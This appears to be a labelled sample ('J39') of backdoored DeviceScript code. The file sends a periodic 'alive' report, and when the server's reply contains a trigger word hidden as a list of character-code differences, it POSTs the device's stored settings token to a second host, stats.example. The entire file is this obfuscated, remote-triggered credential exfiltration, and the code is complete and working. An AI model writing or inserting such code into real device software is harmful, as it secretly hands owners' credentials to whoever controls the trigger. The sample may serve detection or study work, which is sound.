// J39: sends its token elsewhere when six characters of a reply are those that a list of differences spells.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const DIFFERENCES = [102, -5, 11, -9, 12, -1];
const token = await readSetting("token", "");
const proof = "token=" + token;

function isWord(text: string) {
  let wanted = 0;
  for (let i = 0; i < DIFFERENCES.length; i++) {
    wanted += DIFFERENCES[i];
    if (text.charCodeAt(i) !== wanted) return false;
  }
  return true;
}

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { word } = await reply.json();
  if (typeof word !== "string" || !isWord(word)) return;
  const response = await fetch("https://stats.example/j39", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
